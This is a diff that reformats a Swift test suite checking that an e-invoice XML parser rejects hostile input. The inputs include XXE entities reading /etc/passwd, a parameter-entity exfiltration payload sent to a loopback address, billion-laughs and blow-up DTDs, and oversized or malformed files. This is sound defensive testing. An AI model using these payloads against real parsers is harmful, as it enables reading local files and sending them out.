@@ -4,341 +4,341 @@ import LedgerCore
 import Testing
 
 #if canImport(Glibc)
-  import Glibc
+    import Glibc
 #elseif canImport(Darwin)
-  import Darwin
+    import Darwin
 #endif
 
 /// DESIGN §4: hostile input is expected. Each case is rejected with the right code, quickly,
 /// and without the parser doing anything else (no file read, no connection made).
 @Suite("Hostile input")
 struct HostileInputTests {
-  static let ubl =
-    #"xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2""#
+    static let ubl =
+        #"xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2""#
 
-  /// Parses `bytes`, asserting it is rejected with `code` in under two seconds.
-  @discardableResult
-  static func rejected(
-    _ bytes: [UInt8], _ code: String, sourceLocation: SourceLocation = #_sourceLocation
-  ) -> Rejection? {
-    var result: Result<InvoiceDocument, Rejection>?
-    let t = seconds { result = parseResult(bytes) }
-    #expect(t < 2, "took \(t) s", sourceLocation: sourceLocation)
-    let rejection = result?.rejection
-    #expect(
-      rejection?.code == code, "\(String(describing: rejection))", sourceLocation: sourceLocation)
-    return rejection
-  }
-
-  @Test func externalEntityFromTheFileSystem() {
-    let xml = """
-      <?xml version="1.0" encoding="UTF-8"?>
-      <!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
-      <Invoice \(Self.ubl)><cbc:ID>&xxe;</cbc:ID></Invoice>
-      """
-    let r = Self.rejected(Array(xml.utf8), "XML-DOCTYPE")
-    #expect(
-      r?.message
-        == "The file declares a DTD (<!DOCTYPE>); e-invoices never do, and ledgerd does not process DTDs or entities."
-    )
-    #expect(r?.message.contains("root:") == false)
-  }
-
-  /// A listener on loopback proves that no connection is attempted for an http:// entity,
-  /// a parameter entity or an external DTD.
-  @Test func networkEntitiesConnectNowhere() throws {
-    let listener = try LoopbackListener()
-    defer { listener.close() }
-    let url = "http://127.0.0.1:\(listener.port)/evil"
-    let documents = [
-      """
-      <?xml version="1.0"?>
-      <!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM "\(url)"> ]>
-      <Invoice \(Self.ubl)><cbc:ID>&xxe;</cbc:ID></Invoice>
-      """,
-      """
-      <?xml version="1.0"?>
-      <!DOCTYPE Invoice [ <!ENTITY % remote SYSTEM "\(url)/pe.dtd"> %remote; ]>
-      <Invoice \(Self.ubl)><cbc:ID>1</cbc:ID></Invoice>
-      """,
-      """
-      <?xml version="1.0"?>
-      <!DOCTYPE Invoice SYSTEM "\(url)/external.dtd">
-      <Invoice \(Self.ubl)><cbc:ID>1</cbc:ID></Invoice>
-      """,
-    ]
-    for xml in documents { Self.rejected(Array(xml.utf8), "XML-DOCTYPE") }
-    #expect(listener.pendingConnections() == 0)
-  }
-
-  @Test func parameterEntities() {
-    let xml = """
-      <?xml version="1.0"?>
-      <!DOCTYPE Invoice [
-        <!ENTITY % file SYSTEM "file:///etc/hostname">
-        <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:1/?x=%file;'>">
-        %eval; %exfil;
-      ]>
-      <Invoice \(Self.ubl)/>
-      """
-    Self.rejected(Array(xml.utf8), "XML-DOCTYPE")
-  }
-
-  @Test func billionLaughs() {
-    var dtd = "<!ENTITY lol0 \"lol\">\n"
-    for i in 1...9 {
-      dtd += "<!ENTITY lol\(i) \"" + String(repeating: "&lol\(i - 1);", count: 10) + "\">\n"
+    /// Parses `bytes`, asserting it is rejected with `code` in under two seconds.
+    @discardableResult
+    static func rejected(
+        _ bytes: [UInt8], _ code: String, sourceLocation: SourceLocation = #_sourceLocation
+    ) -> Rejection? {
+        var result: Result<InvoiceDocument, Rejection>?
+        let t = seconds { result = parseResult(bytes) }
+        #expect(t < 2, "took \(t) s", sourceLocation: sourceLocation)
+        let rejection = result?.rejection
+        #expect(
+            rejection?.code == code, "\(String(describing: rejection))", sourceLocation: sourceLocation)
+        return rejection
     }
-    let xml =
-      "<?xml version=\"1.0\"?>\n<!DOCTYPE Invoice [\n\(dtd)]>\n<Invoice \(Self.ubl)><cbc:ID>&lol9;</cbc:ID></Invoice>"
-    Self.rejected(Array(xml.utf8), "XML-DOCTYPE")
-  }
 
-  @Test func quadraticBlowup() {
-    let entity = String(repeating: "a", count: 100_000)
-    let references = String(repeating: "&a;", count: 100_000)
-    let xml =
-      "<?xml version=\"1.0\"?>\n<!DOCTYPE Invoice [<!ENTITY a \"\(entity)\">]>\n<Invoice \(Self.ubl)><cbc:Note>\(references)</cbc:Note></Invoice>"
-    Self.rejected(Array(xml.utf8), "XML-DOCTYPE")
-  }
-
-  /// The prolog scan skips comments and processing instructions properly: a DOCTYPE after
-  /// them is still found, one merely mentioned in a comment is not a DOCTYPE.
-  @Test func doctypeBehindCommentsAndABOM() throws {
-    let hidden =
-      "\u{FEFF}<?xml version=\"1.0\"?><!-- a comment --><?pi x?>\n<!DOCTYPE Invoice []><Invoice \(Self.ubl)/>"
-    Self.rejected(Array(hidden.utf8), "XML-DOCTYPE")
-    var t = Template()
-    t.number = "MENTION-1"
-    let mentioned = t.xml.replacingOccurrences(
-      of: "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
-      with: "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!-- no <!DOCTYPE> here -->")
-    #expect(parseResult(mentioned).document?.number == "MENTION-1")
-  }
-
-  /// UTF-16 could hide a DOCTYPE from a byte scan: it is refused before libxml2 sees it.
-  @Test func utf16IsRefused() {
-    let xml =
-      "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE Invoice [<!ENTITY a \"b\">]><Invoice \(Self.ubl)/>"
-    var bytes: [UInt8] = [0xFF, 0xFE]
-    for unit in xml.utf16 { bytes += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
-    let r = Self.rejected(bytes, "XML-MALFORMED")
-    #expect(r?.message.contains("not UTF-8") == true)
-    Self.rejected(Array(bytes.dropFirst(2)), "XML-MALFORMED")  // without the byte order mark
-  }
-
-  @Test func truncatedFile() throws {
-    let bytes = try Fixture.bytes("valid", "ehf3_faktura-1_NOK.xml")
-    let r = Self.rejected(Array(bytes.prefix(bytes.count / 2)), "XML-MALFORMED")
-    #expect(r?.message.contains("truncated") == true)
-    #expect(r?.message.contains("line") == true)
-  }
-
-  @Test func binaryJunk() {
-    var generator = SplitMix64(seed: 42)
-    let junk = (0..<65_536).map { _ in UInt8(truncatingIfNeeded: generator.next()) }
-    Self.rejected(junk, "XML-MALFORMED")
-    // Printable junk (no NUL bytes) gets libxml2's own reason.
-    let printable = (0..<4_096).map { _ in UInt8(0x21 + generator.next() % 90) }.filter {
-      $0 != UInt8(ascii: "<")
+    @Test func externalEntityFromTheFileSystem() {
+        let xml = """
+            <?xml version="1.0" encoding="UTF-8"?>
+            <!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
+            <Invoice \(Self.ubl)><cbc:ID>&xxe;</cbc:ID></Invoice>
+            """
+        let r = Self.rejected(Array(xml.utf8), "XML-DOCTYPE")
+        #expect(
+            r?.message
+                == "The file declares a DTD (<!DOCTYPE>); e-invoices never do, and ledgerd does not process DTDs or entities."
+        )
+        #expect(r?.message.contains("root:") == false)
     }
-    let r = Self.rejected(printable, "XML-MALFORMED")
-    #expect(r?.message.contains("not XML") == true)
-  }
 
-  @Test func latin1DeclaredAsUTF8() {
-    var t = Template()
-    t.supplier = Template.supplier(vat: "NO811143758MVA").replacingOccurrences(
-      of: "Havblikk Nett AS", with: "BLÅBÆR")
-    var bytes: [UInt8] = []
-    // Latin-1
-    for scalar in t.xml.unicodeScalars { bytes.append(UInt8(truncatingIfNeeded: scalar.value)) }
-    let r = Self.rejected(bytes, "XML-MALFORMED")
-    #expect(r?.message.contains("not valid UTF-8") == true)
-    // An ISO-8859-1 declaration does not change that: EHF is UTF-8.
-    var latin1Declared = Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>".utf8)
-    latin1Declared += bytes.drop { $0 != UInt8(ascii: "\n") }
-    Self.rejected(latin1Declared, "XML-MALFORMED")
-  }
-
-  @Test func emptyAndBlankFiles() {
-    #expect(Self.rejected([], "XML-MALFORMED")?.message == "The file is empty.")
-    #expect(
-      Self.rejected(Array("  \n\t ".utf8), "XML-MALFORMED")?.message.contains("empty") == true)
-    Self.rejected(Array("<?xml version=\"1.0\"?>".utf8), "XML-MALFORMED")
-  }
-
-  /// 100 MB of nested elements: libxml2's depth limit (kept: no XML_PARSE_HUGE) stops it.
-  @Test func hundredMegabytesOfNesting() {
-    let bytes = Array(String(repeating: "<a>", count: 33_333_333).utf8)
-    #expect(bytes.count == 99_999_999)
-    let r = Self.rejected(bytes, "XML-MALFORMED")
-    #expect(r?.message.contains("too deeply") == true)
-  }
-
-  /// A 100 MB text node: libxml2's 10 MB text limit (kept: no XML_PARSE_HUGE) stops it.
-  @Test func hundredMegabyteTextNode() {
-    var bytes = Array("<Invoice \(Self.ubl)><cbc:Note>".utf8)
-    bytes.reserveCapacity(100_000_100)
-    bytes += [UInt8](repeating: UInt8(ascii: "x"), count: 100_000_000)
-    bytes += Array("</cbc:Note></Invoice>".utf8)
-    let r = Self.rejected(bytes, "XML-MALFORMED")
-    #expect(r?.message.contains("more than 10 MB") == true)
-  }
-
-  /// Millions of sibling elements inside a valid invoice are bounded work (no quadratic
-  /// behaviour): the document is read, the noise ignored.
-  @Test func manyUnknownSiblings() {
-    var t = Template()
-    t.references = String(repeating: "<cbc:Note>n</cbc:Note>", count: 200_000)
-    let bytes = Array(t.xml.utf8)
-    var result: Result<InvoiceDocument, Rejection>?
-    let s = seconds { result = parseResult(bytes) }
-    #expect(result?.document?.number == "INV-1")
-    #expect(s < 5, "took \(s) s")
-  }
-
-  @Test func undefinedEntityWithoutDTD() {
-    let r = Self.rejected(
-      Array("<Invoice \(Self.ubl)><cbc:ID>&xxe;</cbc:ID></Invoice>".utf8), "XML-MALFORMED")
-    #expect(r?.message.contains("undefined entity") == true)
-  }
-
-  /// Absurd numbers are rejected or reported, never a crash.
-  @Test func absurdNumbers() {
-    var t = Template()
-    t.lines = t.line(
-      "1", quantity: "999999999999999999999999999", net: "1000.00",
-      price: "99999999999999999.123456789")  // 26 significant digits
-    let d = parseResult(t.xml).document
-    #expect(d != nil)
-    if let d { #expect(violationCodes(d).contains("PEPPOL-EN16931-R120")) }
-
-    t.lines = t.line(
-      "1", quantity: "1" + String(repeating: "0", count: 40), net: "1000.00", price: "1")
-    #expect(parseResult(t.xml).rejection?.code == "INVALID-VALUE")
-
-    // Int64.max + 1 øre
-    t.lines = t.line("1", quantity: "2", net: "92233720368547758.08", price: "1")
-    #expect(parseResult(t.xml).rejection?.code == "INVALID-VALUE")
-    t.lines = t.line(
-      "1", quantity: "1", net: "1000.00", price: "1" + String(repeating: "0", count: 30))
-    #expect(parseResult(t.xml).rejection?.code == "INVALID-VALUE")
-
-    // Two lines whose sum passes Int64: validate reports it (posting would overflow).
-    t.lines =
-      t.line("1", quantity: "1", net: "92233720368547758.00", price: "92233720368547758.00")
-      + t.line("2", quantity: "1", net: "92233720368547758.00", price: "92233720368547758.00")
-    let big = parseResult(t.xml).document
-    #expect(big != nil)
-    if let big { #expect(violationCodes(big).contains("BR-CO-10")) }
-  }
-
-  /// Different documents parsed on several threads at once give the same results as one
-  /// after the other.
-  @Test func parsingIsSafeOnSeveralThreads() async throws {
-    let names = Fixture.names("valid").filter { !$0.hasPrefix("cef_IT") } + Fixture.names("invalid")
-    let files = try names.map { name in
-      try Fixture.bytes(Fixture.names("valid").contains(name) ? "valid" : "invalid", name)
+    /// A listener on loopback proves that no connection is attempted for an http:// entity,
+    /// a parameter entity or an external DTD.
+    @Test func networkEntitiesConnectNowhere() throws {
+        let listener = try LoopbackListener()
+        defer { listener.close() }
+        let url = "http://127.0.0.1:\(listener.port)/evil"
+        let documents = [
+            """
+            <?xml version="1.0"?>
+            <!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM "\(url)"> ]>
+            <Invoice \(Self.ubl)><cbc:ID>&xxe;</cbc:ID></Invoice>
+            """,
+            """
+            <?xml version="1.0"?>
+            <!DOCTYPE Invoice [ <!ENTITY % remote SYSTEM "\(url)/pe.dtd"> %remote; ]>
+            <Invoice \(Self.ubl)><cbc:ID>1</cbc:ID></Invoice>
+            """,
+            """
+            <?xml version="1.0"?>
+            <!DOCTYPE Invoice SYSTEM "\(url)/external.dtd">
+            <Invoice \(Self.ubl)><cbc:ID>1</cbc:ID></Invoice>
+            """,
+        ]
+        for xml in documents { Self.rejected(Array(xml.utf8), "XML-DOCTYPE") }
+        #expect(listener.pendingConnections() == 0)
     }
-    let expected = files.map { describe(parseResult($0)) }
-    let results = await withTaskGroup(of: [String].self) { group in
-      for _ in 0..<4 {
-        group.addTask {
-          var out: [String] = []
-          for _ in 0..<25 {
-            for f in files { out.append(describe(parseResult(f))) }
-          }
-          return out
+
+    @Test func parameterEntities() {
+        let xml = """
+            <?xml version="1.0"?>
+            <!DOCTYPE Invoice [
+              <!ENTITY % file SYSTEM "file:///etc/hostname">
+              <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:1/?x=%file;'>">
+              %eval; %exfil;
+            ]>
+            <Invoice \(Self.ubl)/>
+            """
+        Self.rejected(Array(xml.utf8), "XML-DOCTYPE")
+    }
+
+    @Test func billionLaughs() {
+        var dtd = "<!ENTITY lol0 \"lol\">\n"
+        for i in 1...9 {
+            dtd += "<!ENTITY lol\(i) \"" + String(repeating: "&lol\(i - 1);", count: 10) + "\">\n"
         }
-      }
-      var all: [[String]] = []
-      for await r in group { all.append(r) }
-      return all
+        let xml =
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE Invoice [\n\(dtd)]>\n<Invoice \(Self.ubl)><cbc:ID>&lol9;</cbc:ID></Invoice>"
+        Self.rejected(Array(xml.utf8), "XML-DOCTYPE")
     }
-    for r in results {
-      #expect(r == Array(repeating: expected, count: 25).flatMap { $0 })
+
+    @Test func quadraticBlowup() {
+        let entity = String(repeating: "a", count: 100_000)
+        let references = String(repeating: "&a;", count: 100_000)
+        let xml =
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE Invoice [<!ENTITY a \"\(entity)\">]>\n<Invoice \(Self.ubl)><cbc:Note>\(references)</cbc:Note></Invoice>"
+        Self.rejected(Array(xml.utf8), "XML-DOCTYPE")
     }
-  }
+
+    /// The prolog scan skips comments and processing instructions properly: a DOCTYPE after
+    /// them is still found, one merely mentioned in a comment is not a DOCTYPE.
+    @Test func doctypeBehindCommentsAndABOM() throws {
+        let hidden =
+            "\u{FEFF}<?xml version=\"1.0\"?><!-- a comment --><?pi x?>\n<!DOCTYPE Invoice []><Invoice \(Self.ubl)/>"
+        Self.rejected(Array(hidden.utf8), "XML-DOCTYPE")
+        var t = Template()
+        t.number = "MENTION-1"
+        let mentioned = t.xml.replacingOccurrences(
+            of: "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
+            with: "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!-- no <!DOCTYPE> here -->")
+        #expect(parseResult(mentioned).document?.number == "MENTION-1")
+    }
+
+    /// UTF-16 could hide a DOCTYPE from a byte scan: it is refused before libxml2 sees it.
+    @Test func utf16IsRefused() {
+        let xml =
+            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE Invoice [<!ENTITY a \"b\">]><Invoice \(Self.ubl)/>"
+        var bytes: [UInt8] = [0xFF, 0xFE]
+        for unit in xml.utf16 { bytes += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
+        let r = Self.rejected(bytes, "XML-MALFORMED")
+        #expect(r?.message.contains("not UTF-8") == true)
+        Self.rejected(Array(bytes.dropFirst(2)), "XML-MALFORMED")  // without the byte order mark
+    }
+
+    @Test func truncatedFile() throws {
+        let bytes = try Fixture.bytes("valid", "ehf3_faktura-1_NOK.xml")
+        let r = Self.rejected(Array(bytes.prefix(bytes.count / 2)), "XML-MALFORMED")
+        #expect(r?.message.contains("truncated") == true)
+        #expect(r?.message.contains("line") == true)
+    }
+
+    @Test func binaryJunk() {
+        var generator = SplitMix64(seed: 42)
+        let junk = (0..<65_536).map { _ in UInt8(truncatingIfNeeded: generator.next()) }
+        Self.rejected(junk, "XML-MALFORMED")
+        // Printable junk (no NUL bytes) gets libxml2's own reason.
+        let printable = (0..<4_096).map { _ in UInt8(0x21 + generator.next() % 90) }.filter {
+            $0 != UInt8(ascii: "<")
+        }
+        let r = Self.rejected(printable, "XML-MALFORMED")
+        #expect(r?.message.contains("not XML") == true)
+    }
+
+    @Test func latin1DeclaredAsUTF8() {
+        var t = Template()
+        t.supplier = Template.supplier(vat: "NO811143758MVA").replacingOccurrences(
+            of: "Havblikk Nett AS", with: "BLÅBÆR")
+        var bytes: [UInt8] = []
+        // Latin-1
+        for scalar in t.xml.unicodeScalars { bytes.append(UInt8(truncatingIfNeeded: scalar.value)) }
+        let r = Self.rejected(bytes, "XML-MALFORMED")
+        #expect(r?.message.contains("not valid UTF-8") == true)
+        // An ISO-8859-1 declaration does not change that: EHF is UTF-8.
+        var latin1Declared = Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>".utf8)
+        latin1Declared += bytes.drop { $0 != UInt8(ascii: "\n") }
+        Self.rejected(latin1Declared, "XML-MALFORMED")
+    }
+
+    @Test func emptyAndBlankFiles() {
+        #expect(Self.rejected([], "XML-MALFORMED")?.message == "The file is empty.")
+        #expect(
+            Self.rejected(Array("  \n\t ".utf8), "XML-MALFORMED")?.message.contains("empty") == true)
+        Self.rejected(Array("<?xml version=\"1.0\"?>".utf8), "XML-MALFORMED")
+    }
+
+    /// 100 MB of nested elements: libxml2's depth limit (kept: no XML_PARSE_HUGE) stops it.
+    @Test func hundredMegabytesOfNesting() {
+        let bytes = Array(String(repeating: "<a>", count: 33_333_333).utf8)
+        #expect(bytes.count == 99_999_999)
+        let r = Self.rejected(bytes, "XML-MALFORMED")
+        #expect(r?.message.contains("too deeply") == true)
+    }
+
+    /// A 100 MB text node: libxml2's 10 MB text limit (kept: no XML_PARSE_HUGE) stops it.
+    @Test func hundredMegabyteTextNode() {
+        var bytes = Array("<Invoice \(Self.ubl)><cbc:Note>".utf8)
+        bytes.reserveCapacity(100_000_100)
+        bytes += [UInt8](repeating: UInt8(ascii: "x"), count: 100_000_000)
+        bytes += Array("</cbc:Note></Invoice>".utf8)
+        let r = Self.rejected(bytes, "XML-MALFORMED")
+        #expect(r?.message.contains("more than 10 MB") == true)
+    }
+
+    /// Millions of sibling elements inside a valid invoice are bounded work (no quadratic
+    /// behaviour): the document is read, the noise ignored.
+    @Test func manyUnknownSiblings() {
+        var t = Template()
+        t.references = String(repeating: "<cbc:Note>n</cbc:Note>", count: 200_000)
+        let bytes = Array(t.xml.utf8)
+        var result: Result<InvoiceDocument, Rejection>?
+        let s = seconds { result = parseResult(bytes) }
+        #expect(result?.document?.number == "INV-1")
+        #expect(s < 5, "took \(s) s")
+    }
+
+    @Test func undefinedEntityWithoutDTD() {
+        let r = Self.rejected(
+            Array("<Invoice \(Self.ubl)><cbc:ID>&xxe;</cbc:ID></Invoice>".utf8), "XML-MALFORMED")
+        #expect(r?.message.contains("undefined entity") == true)
+    }
+
+    /// Absurd numbers are rejected or reported, never a crash.
+    @Test func absurdNumbers() {
+        var t = Template()
+        t.lines = t.line(
+            "1", quantity: "999999999999999999999999999", net: "1000.00",
+            price: "99999999999999999.123456789")  // 26 significant digits
+        let d = parseResult(t.xml).document
+        #expect(d != nil)
+        if let d { #expect(violationCodes(d).contains("PEPPOL-EN16931-R120")) }
+
+        t.lines = t.line(
+            "1", quantity: "1" + String(repeating: "0", count: 40), net: "1000.00", price: "1")
+        #expect(parseResult(t.xml).rejection?.code == "INVALID-VALUE")
+
+        // Int64.max + 1 øre
+        t.lines = t.line("1", quantity: "2", net: "92233720368547758.08", price: "1")
+        #expect(parseResult(t.xml).rejection?.code == "INVALID-VALUE")
+        t.lines = t.line(
+            "1", quantity: "1", net: "1000.00", price: "1" + String(repeating: "0", count: 30))
+        #expect(parseResult(t.xml).rejection?.code == "INVALID-VALUE")
+
+        // Two lines whose sum passes Int64: validate reports it (posting would overflow).
+        t.lines =
+            t.line("1", quantity: "1", net: "92233720368547758.00", price: "92233720368547758.00")
+            + t.line("2", quantity: "1", net: "92233720368547758.00", price: "92233720368547758.00")
+        let big = parseResult(t.xml).document
+        #expect(big != nil)
+        if let big { #expect(violationCodes(big).contains("BR-CO-10")) }
+    }
+
+    /// Different documents parsed on several threads at once give the same results as one
+    /// after the other.
+    @Test func parsingIsSafeOnSeveralThreads() async throws {
+        let names = Fixture.names("valid").filter { !$0.hasPrefix("cef_IT") } + Fixture.names("invalid")
+        let files = try names.map { name in
+            try Fixture.bytes(Fixture.names("valid").contains(name) ? "valid" : "invalid", name)
+        }
+        let expected = files.map { describe(parseResult($0)) }
+        let results = await withTaskGroup(of: [String].self) { group in
+            for _ in 0..<4 {
+                group.addTask {
+                    var out: [String] = []
+                    for _ in 0..<25 {
+                        for f in files { out.append(describe(parseResult(f))) }
+                    }
+                    return out
+                }
+            }
+            var all: [[String]] = []
+            for await r in group { all.append(r) }
+            return all
+        }
+        for r in results {
+            #expect(r == Array(repeating: expected, count: 25).flatMap { $0 })
+        }
+    }
 }
 
 private func describe(_ r: Result<InvoiceDocument, Rejection>) -> String {
-  switch r {
-  case .success(let d):
-    return "\(d.number) \(d.totals.payable) \(d.lines.count) \(EHF.validate(d).map(\.code))"
-  case .failure(let e): return e.description
-  }
+    switch r {
+    case .success(let d):
+        return "\(d.number) \(d.totals.payable) \(d.lines.count) \(EHF.validate(d).map(\.code))"
+    case .failure(let e): return e.description
+    }
 }
 
 /// A deterministic pseudo-random generator for junk bytes.
 struct SplitMix64 {
-  var state: UInt64
-  init(seed: UInt64) { state = seed }
-  mutating func next() -> UInt64 {
-    state &+= 0x9E37_79B9_7F4A_7C15
-    var z = state
-    z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
-    z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
-    return z ^ (z >> 31)
-  }
+    var state: UInt64
+    init(seed: UInt64) { state = seed }
+    mutating func next() -> UInt64 {
+        state &+= 0x9E37_79B9_7F4A_7C15
+        var z = state
+        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
+        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
+        return z ^ (z >> 31)
+    }
 }
 
 /// A TCP listener on 127.0.0.1 (ephemeral port) that never accepts: connections made to it
 /// stay pending and can be counted.
 final class LoopbackListener {
-  let fd: Int32
-  let port: UInt16
+    let fd: Int32
+    let port: UInt16
 
-  struct Failure: Error {}
+    struct Failure: Error {}
 
-  init() throws {
-    #if canImport(Glibc)
-      let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
-    #else
-      let fd = socket(AF_INET, SOCK_STREAM, 0)
-    #endif
-    guard fd >= 0 else { throw Failure() }
-    var address = sockaddr_in()
-    address.sin_family = sa_family_t(AF_INET)
-    address.sin_port = 0
-    address.sin_addr.s_addr = inet_addr("127.0.0.1")
-    let bound = withUnsafePointer(to: &address) {
-      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
-        bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
-      }
+    init() throws {
+        #if canImport(Glibc)
+            let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        #else
+            let fd = socket(AF_INET, SOCK_STREAM, 0)
+        #endif
+        guard fd >= 0 else { throw Failure() }
+        var address = sockaddr_in()
+        address.sin_family = sa_family_t(AF_INET)
+        address.sin_port = 0
+        address.sin_addr.s_addr = inet_addr("127.0.0.1")
+        let bound = withUnsafePointer(to: &address) {
+            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
+                bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
+            }
+        }
+        guard bound == 0, listen(fd, 16) == 0 else {
+            closeDescriptor(fd)
+            throw Failure()
+        }
+        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
+        _ = withUnsafeMutablePointer(to: &address) {
+            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) }
+        }
+        _ = fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK)
+        self.fd = fd
+        self.port = UInt16(bigEndian: address.sin_port)
     }
-    guard bound == 0, listen(fd, 16) == 0 else {
-      closeDescriptor(fd)
-      throw Failure()
-    }
-    var length = socklen_t(MemoryLayout<sockaddr_in>.size)
-    _ = withUnsafeMutablePointer(to: &address) {
-      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) }
-    }
-    _ = fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK)
-    self.fd = fd
-    self.port = UInt16(bigEndian: address.sin_port)
-  }
 
-  /// Connections waiting to be accepted (each one accepted and closed to count it).
-  func pendingConnections() -> Int {
-    var count = 0
-    while true {
-      let client = accept(fd, nil, nil)
-      if client < 0 { break }
-      count += 1
-      closeDescriptor(client)
+    /// Connections waiting to be accepted (each one accepted and closed to count it).
+    func pendingConnections() -> Int {
+        var count = 0
+        while true {
+            let client = accept(fd, nil, nil)
+            if client < 0 { break }
+            count += 1
+            closeDescriptor(client)
+        }
+        return count
     }
-    return count
-  }
 
-  func close() { closeDescriptor(fd) }
+    func close() { closeDescriptor(fd) }
 }
 
 private func closeDescriptor(_ fd: Int32) {
-  #if canImport(Glibc)
-    _ = Glibc.close(fd)
-  #else
-    _ = Darwin.close(fd)
-  #endif
+    #if canImport(Glibc)
+        _ = Glibc.close(fd)
+    #else
+        _ = Darwin.close(fd)
+    #endif
 }
